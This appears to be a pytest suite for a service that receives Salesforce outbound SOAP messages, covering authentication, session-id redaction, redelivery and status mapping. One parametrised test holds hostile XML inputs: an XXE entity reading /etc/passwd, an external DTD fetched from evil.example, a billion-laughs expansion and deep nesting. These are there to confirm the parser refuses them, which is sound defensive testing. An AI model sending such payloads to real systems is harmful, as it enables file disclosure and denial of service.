"""Salesforce's outbound messages as a source: the suite, SOAP and its dangers, redelivery, and the latest state."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, ClassVar
from xml.sax.saxutils import escape

import pytest
from defusedxml.ElementTree import fromstring
from pydantic import ValidationError

from bridge.contract.command import Action, EnrollmentCommand, Item, Learner, Order, Refund
from bridge.contract.errors import PayloadInvalid
from bridge.contract.inbound import InboundAdapter, InboundEvent, Meaning, Reception, Response, Unreadable
from bridge.intake.blank import stored_body
from tests.connectors.inbound.crm_rig import bridged
from tests.ledger.rig import SHOP, World
from tests.suites.inbound import HOSTILE_TEXTS, PAYLOADS, RECEIVED, InboundSuite, refused, request

SECRET = "made-up-for-the-test"
SESSION = "00D240000000001!AQ0AQLiveSession"
FOLDER = PAYLOADS / "salesforce_outbound"
NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
FONTEVA = {
    "email": "Contact_Email__c",
    "user_id": "OrderApi__Contact__c",
    "product": "OrderApi__Item__c",
    "order": "OrderApi__Sales_Order__c",
    "status": "Posting_Status__c",
    "amount": "OrderApi__Total__c",
}
RECORD = {"Id": "a1B240000000001EAC", "Email__c": "jane@example.com", "Product_Code__c": "COURSE-101"}


def notified(*records: Mapping[str, str], first: int = 1) -> str:
    """Build notifications with ids that count up."""
    return "".join(
        f'<Notification><Id>04l{first + place:015}</Id><sObject xmlns:sf="urn:sobject.enterprise.soap.sforce.com">'
        + "".join(f"<sf:{name}>{escape(text)}</sf:{name}>" for name, text in record.items())
        + "</sObject></Notification>"
        for place, record in enumerate(records)
    )


def message(inner: str, *, organization: str = "00D240000000001EAA", session: str = "") -> InboundEvent:
    """Build the post of an outbound message."""
    body = (
        '<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope '
        'xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
        '<notifications xmlns="http://soap.sforce.com/2005/09/outbound">'
        f"<OrganizationId>{organization}</OrganizationId><SessionId>{session}</SessionId>{inner}"
        "</notifications></soapenv:Body></soapenv:Envelope>"
    )
    return posted(body.encode("utf-8", "replace"))


def posted(body: bytes) -> InboundEvent:
    return request(body, query={"secret": SECRET}, headers={"content-type": "text/xml; charset=UTF-8"})


class TestSalesforceOutbound(InboundSuite):
    """Proven by the secret of the address and the organisation's id."""

    type = "salesforce_outbound"
    source: ClassVar[dict[str, Any]] = {"secret": SECRET, "organization_id": "00D240000000001"}
    captured: ClassVar[Mapping[str, Sequence[EnrollmentCommand]]] = {
        "order_line.xml": [
            EnrollmentCommand(
                action=Action.ENROLL,
                occurred_at=RECEIVED,
                event_key="04l0800002nrC5BAAU",
                business_key="a1B240000000001EAC",
                learner=Learner(email="jane.buyer@example.com"),
                items=(Item(remote_product_id="COURSE-101"),),
                order=Order(number="a1B240000000001EAC", refs=()),
            )
        ]
    }

    def event(self, name: str, payload: bytes) -> InboundEvent:
        return posted(payload)

    def forged(self, event: InboundEvent) -> Mapping[str, InboundEvent]:
        def of_organization(text: str) -> InboundEvent:
            return replace(event, body=event.body.replace(b">00D240000000001EAA<", f">{text}<".encode()))

        return {
            "absent": replace(event, query={}),
            "wrong": replace(event, query={"secret": SECRET + "x"}),
            "in a header": replace(event, query={}, headers={"secret": SECRET}),
            "that of another organisation": of_organization("00D240000000002EAA"),
            "that of one whose letters differ in case": of_organization("00d240000000001EAA"),
            "without an organisation": of_organization(""),
            "with a part of the organisation's id": of_organization("00D24000000000"),
            "good in a message that says it is none": replace(event, headers={"content-type": "application/json"}),
            "absent in what is no XML": request(b"<", query={}),
        }

    def check_shape(self, reception: Reception, response: Response) -> None:
        assert response.content_type == "text/xml"
        assert isinstance(response.body, bytes)
        said = fromstring(response.body, forbid_dtd=True)
        acks = [held.text for held in said.iter() if held.tag == "{http://soap.sforce.com/2005/09/outbound}Ack"]
        faults = [held for held in said.iter() if held.tag.endswith("}Fault")]
        assert len(acks) + len(faults) == 1
        kept = reception.kind in ("accepted", "unmapped", "ignored", "not_found")
        assert (acks == ["true"]) is kept

    def meanings(self, event: InboundEvent, **changes: Any) -> list[Meaning]:
        return list(self.adapter(**changes).normalise(event))

    def the(self, record: Mapping[str, str], **changes: Any) -> EnrollmentCommand:
        (command,) = self.meanings(message(notified(record)), **changes)
        assert isinstance(command, EnrollmentCommand), command
        return command

    def test_the_acknowledgement_is_the_one_that_salesforce_knows(self) -> None:
        """To the byte, white space at the end aside."""
        answer = self.adapter().respond(posted(b""), Reception("accepted"))
        assert answer.body.strip() == (FOLDER / "ack.xml").read_bytes().strip()

    @pytest.mark.parametrize("mine", ["00D240000000001", "00D240000000001EAA"])
    @pytest.mark.parametrize("theirs", ["00D240000000001", "00D240000000001EAA"])
    def test_the_organisation_may_be_written_in_two_ways(self, mine: str, theirs: str) -> None:
        """The last three characters say nothing new."""
        self.adapter(organization_id=mine).verify(message("", organization=theirs))

    @pytest.mark.parametrize("text", ["", "00D24", "00D24000000000"])
    def test_an_organisation_that_is_none_is_a_fault_of_the_settings(self, text: str) -> None:
        """An empty one would let in any message that names none."""
        with pytest.raises(ValidationError, match="organization_id"):
            self.adapter(organization_id=text)

    def test_every_message_of_an_envelope_must_be_the_organisations(self) -> None:
        """A second one is no way in."""
        other = message("", organization="00D240000000002EAA").body.decode()
        inner = other[other.index("<notifications") : other.index("</soapenv:Body>")]
        good = message(notified(RECORD)).body.decode()
        assert refused(self.adapter(), posted(good.replace("</soapenv:Body>", inner + "</soapenv:Body>").encode()))

    def test_both_secrets_count_while_they_rotate(self) -> None:
        """The endpoint is changed in one place, and messages under way have the old one."""
        self.adapter(secret=["new", SECRET]).verify(message(""))

    def test_a_sessions_id_is_never_stored(self) -> None:
        """It opens the organisation to whoever reads it."""
        adapter = self.adapter()
        for event in (message("", session=SESSION), posted((FOLDER / "three_notifications.xml").read_bytes())):
            adapter.verify(event)
            assert SESSION in event.body.decode()
            stored, _ = stored_body(event, adapter.credential_fields, ())
            assert "AQ0AQ" not in stored
            assert self.meanings(replace(event, body=stored.encode())) == self.meanings(event)

    # XML and its dangers.

    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b"<",
            b"{}",
            b"<a/>",
            b"\xff\xfe<\x00",
            b'<?xml version="1.0" encoding="nonsense"?><a/>',
            b'<?xml version="1.0" encoding="UTF-32"?><a/>',
            b"<!DOCTYPE a><a>1</a>",
            b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
            b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><a/>',
            b'<!DOCTYPE a [<!ENTITY x0 "ha">'
            + b"".join(b'<!ENTITY x%d "&x%d;&x%d;">' % (n, n - 1, n - 1) for n in range(1, 40))
            + b"]><a>&x39;</a>",
            b"<a>" * 100_000 + b"</a>" * 100_000,
        ],
        ids=range(13),
    )
    def test_what_is_no_plain_message_is_unreadable(self, body: bytes) -> None:
        """Bombs, foreign files and other documents alike; the secret's holder's waits in quarantine."""
        self.adapter().verify(posted(body))
        with pytest.raises(PayloadInvalid) as invalid:
            self.meanings(posted(body))
        assert not invalid.value.readable

    def test_a_message_with_a_dtd_is_refused_although_it_is_whole(self) -> None:
        """Nothing of it is read."""
        whole = message(notified(RECORD)).body
        with pytest.raises(PayloadInvalid):
            self.meanings(posted(whole.replace(b"?>", b"?><!DOCTYPE x>", 1)))

    def test_endures_hostile_text_in_every_field(self) -> None:
        """Each becomes a command, or a row that waits."""
        names = (*RECORD, "LastModifiedDate", "Status__c", "Amount__c", "Quantity__c")
        fields = {"status": "Status__c", "amount": "Amount__c", "quantity": "Quantity__c", "order": "Id"}
        for name in names:
            for text in HOSTILE_TEXTS:
                clean = "".join(c for c in text if c.isprintable())
                event = message(notified({**RECORD, "Status__c": "Paid", name: clean}, RECORD))
                found = self.meanings(event, fields=fields)
                assert len(found) == 2
                for meaning in found:
                    if isinstance(meaning, EnrollmentCommand):
                        self.can_be_kept(meaning)

    # What a record means.

    def test_one_bad_notification_does_not_sink_the_others(self) -> None:
        """Three lines of an order: bought, without an address, and cancelled."""
        event = posted((FOLDER / "three_notifications.xml").read_bytes())
        order = "a1C240000000009EAC"
        assert self.meanings(event, fields=FONTEVA) == [
            EnrollmentCommand(
                action=Action.ENROLL,
                occurred_at=NOON,
                event_key="04l0800002nrC5BAAU@2026-03-01T12:00:00+00:00",
                business_key=order,
                learner=Learner(
                    remote_user_id="003240000000001AAA",
                    email="jane.buyer@example.com",
                    first_name="Jane",
                    last_name="O'Buyer & Sons",
                ),
                items=(
                    Item(
                        remote_product_id="COURSE-101",
                        amount_paid=Decimal("49.9"),
                        currency="USD",
                        line="a1B240000000001EAC",
                    ),
                ),
                order=Order(number=order, refs=("a1B240000000001EAC",)),
            ),
            Unreadable("04l0800002nrC5CAAU", {"Contact_Email__c": "is missing"}),
            EnrollmentCommand(
                action=Action.CANCEL,
                occurred_at=NOON + timedelta(seconds=2),
                event_key="04l0800002nrC5DAAU@2026-03-01T12:00:02+00:00",
                business_key=order,
                items=(Item(remote_product_id="COURSE-103", line="a1B240000000003EAC"),),
                order=Order(number=order, refs=("a1B240000000003EAC",)),
            ),
        ]

    def test_a_hundred_notifications_are_a_hundred_commands(self) -> None:
        """The most that one message holds."""
        records = [{**RECORD, "Id": f"a1B{place:015}"} for place in range(100)]
        found = self.meanings(message(notified(*records)))
        assert len({command.event_key for command in found if isinstance(command, EnrollmentCommand)}) == 100

    @pytest.mark.parametrize(
        ("status", "action", "paid"),
        [
            ("Paid", Action.ENROLL, True),
            ("POSTED", Action.ENROLL, True),
            ("true", Action.ENROLL, True),
            ("Pending", Action.ENROLL, False),
            ("Cancelled", Action.CANCEL, True),
            ("canceled", Action.CANCEL, True),
            ("Refunded", Action.REFUND, True),
        ],
    )
    def test_the_status_decides(self, status: str, action: Action, paid: bool) -> None:
        """In any case of its letters."""
        command = self.the({**RECORD, "Status__c": status}, fields={"status": "Status__c"})
        assert (command.action, command.paid) == (action, paid)
        assert command.refund == (Refund(full=True) if action is Action.REFUND else None)

    def test_the_operators_values_replace_the_usual_ones(self) -> None:
        """What is not named waits, and is not guessed at."""
        settings = {"fields": {"status": "S"}, "actions": {"Wartet": "suspend", "Läuft": "resume", "Neu": "ignore"}}
        assert self.the({**RECORD, "S": "WARTET"}, **settings).action is Action.SUSPEND
        assert self.the({**RECORD, "S": "läuft"}, **settings).action is Action.RESUME
        assert self.meanings(message(notified({**RECORD, "S": "Neu"})), **settings) == []
        for status in ("Paid", ""):
            (row,) = self.meanings(message(notified({**RECORD, "S": status})), **settings)
            assert isinstance(row, Unreadable)
            assert list(row.faults) == ["S"]

    def test_an_action_that_does_not_exist_is_a_fault_of_the_settings(self) -> None:
        """So is a field of ours that does not."""
        for wrong in ({"actions": {"Paid": "enrol"}}, {"fields": {"mail": "Email__c"}}, {"fields": {"product": ""}}):
            with pytest.raises(ValidationError):
                self.adapter(**wrong)

    @pytest.mark.parametrize("name", ["Id", "Email__c", "Product_Code__c"])
    def test_what_is_missing_is_named_as_salesforce_names_it(self, name: str) -> None:
        """Whoever chose the fields of the message can add it."""
        (row,) = self.meanings(message(notified({other: text for other, text in RECORD.items() if other != name})))
        assert row == Unreadable("04l000000000000001", {name: "is missing"})

    def test_numbers_have_a_fraction(self) -> None:
        """As Salesforce writes them."""
        fields = {"quantity": "Quantity__c", "amount": "Amount__c"}
        command = self.the({**RECORD, "Quantity__c": "3.0", "Amount__c": "149.70"}, fields=fields)
        assert (command.items[0].quantity, command.items[0].amount_paid) == (3, Decimal("149.70"))

    def test_a_redelivery_of_the_same_state_is_the_same_occurrence_in_any_grouping(self) -> None:
        """And one of a newer state is another."""
        records = [{**RECORD, "Id": f"a1B{n:015}", "LastModifiedDate": "2026-03-01T12:00:00.000Z"} for n in (1, 2)]
        both = self.meanings(message(notified(*records)))
        alone = self.meanings(message(notified(records[1], first=2)))
        assert both[1:] == alone
        changed = {**records[1], "LastModifiedDate": "2026-03-01T12:00:01.000Z"}
        (newer,) = self.meanings(message(notified(changed, first=2)))
        assert newer.event_key != both[1].event_key


class TestAgainstALedger:
    """Messages come twice, late, packed differently; the newest state of a record counts."""

    def adapter(self) -> InboundAdapter:
        return TestSalesforceOutbound().adapter(fields={"status": "Status__c"})

    def line(self, number: int, status: str, minute: int, **changes: str) -> dict[str, str]:
        return {
            **RECORD,
            "Id": f"a1B{number:015}",
            "Email__c": f"learner{number}@example.com",
            "Status__c": status,
            "LastModifiedDate": f"2026-03-01T12:{minute:02}:00.000Z",
            **changes,
        }

    async def take(self, world: World, *events: InboundEvent) -> dict[str, str]:
        for event in events:
            self.adapter().verify(event)
            await world.intake.receive(SHOP, self.adapter(), event)
        return {
            row.business_key[-1]: row.intent
            for row in await world.rows("SELECT business_key, intent FROM registration")
        }

    async def test_a_purchase_is_repeated_in_other_groups_and_cancelled(self, tmp_path: Path) -> None:
        """One registration each, whatever the order of arrival."""
        one, two, three = (self.line(n, "Paid", n) for n in (1, 2, 3))
        async with bridged(tmp_path, SHOP, ["COURSE-101"]) as world:
            live = {"1": "live", "2": "live"}
            assert await self.take(world, message(notified(one, two))) == live
            assert await self.take(world, message(notified(one, two)), message(notified(two, first=2))) == live
            assert await self.take(world, message(notified(two, three, first=2))) == {**live, "3": "live"}
            ended = message(notified(self.line(2, "Cancelled", 30), first=9))
            assert (await self.take(world, ended))["2"] == "cancelled"
            late = message(notified(two, three, first=2))
            assert await self.take(world, late) == {"1": "live", "2": "cancelled", "3": "live"}

    async def test_a_redelivered_notification_with_a_newer_state_counts(self, tmp_path: Path) -> None:
        """The Ack was lost, and the record was cancelled meanwhile: no other message tells of it."""
        async with bridged(tmp_path, SHOP, ["COURSE-101"]) as world:
            assert await self.take(world, message(notified(self.line(1, "Paid", 1)))) == {"1": "live"}
            assert await self.take(world, message(notified(self.line(1, "Cancelled", 2)))) == {"1": "cancelled"}

    async def test_a_bad_notification_waits_and_the_message_is_acknowledged(self, tmp_path: Path) -> None:
        """So that Salesforce does not send the good ones for 24 hours."""
        bad, good = self.line(1, "Paid", 1, Email__c=""), self.line(2, "Paid", 1)
        async with bridged(tmp_path, SHOP, ["COURSE-101"]) as world:
            for event in (message(notified(bad, good)), message(notified(bad)), posted(b"<!DOCTYPE a><a/>")):
                reception = await world.intake.receive(SHOP, self.adapter(), event)
                assert b"<Ack>true</Ack>" in self.adapter().respond(event, reception).body
            assert await world.counts("registration", "quarantine") == {"registration": 1, "quarantine": 3}
